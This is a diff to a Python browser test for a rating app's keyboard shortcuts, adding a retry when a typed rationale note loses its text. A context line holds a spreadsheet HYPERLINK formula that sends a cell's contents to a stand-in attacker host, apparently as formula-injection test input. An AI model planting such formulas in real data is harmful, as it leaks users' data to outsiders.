@@ -28,6 +28,7 @@ from __future__ import annotations
 import random
 import re
 import sqlite3
+import sys
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -74,6 +75,10 @@ BUTTONS = (
 )
 NOTE = "Rationale or note (optional)"
 FORMULA_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"broken item")'
+
+
+#: A text box's value, and whether it has the keyboard.
+_TYPED = "(el) => [el.value, el === document.activeElement]"
 
 
 def for_model_a(value_for_left: int, shown_order: str) -> int:
@@ -284,6 +289,15 @@ def test_keyboard_shortcuts_rate_skip_and_flag(app: DemoApp, tab, store: Store) 
             rationale = "Clearer by 2 steps; 1 small slip"
             note = page.get_by_label(NOTE)
             note.press_sequentially(rationale)
+            typed = note.evaluate(_TYPED)
+            if typed != [rationale, True]:
+                # once, on a loaded CI machine, leaving the note started no run; it starts one
+                # only when the note holds text not yet sent, so the note had likely lost its
+                # text or the keyboard while typed into. Say what it held, and type it again.
+                print(f"the note held {typed!r} after typing; typing it again", file=sys.stderr)
+                note.fill("")
+                note.press_sequentially(rationale)
+                assert note.evaluate(_TYPED) == [rationale, True]
             # leaving the note sends it, in a run after any that a typed key would have started
             after_run(page, note.blur)
             assert judgments_of(store, "keys") == expected and passes_of(store, "keys") == []
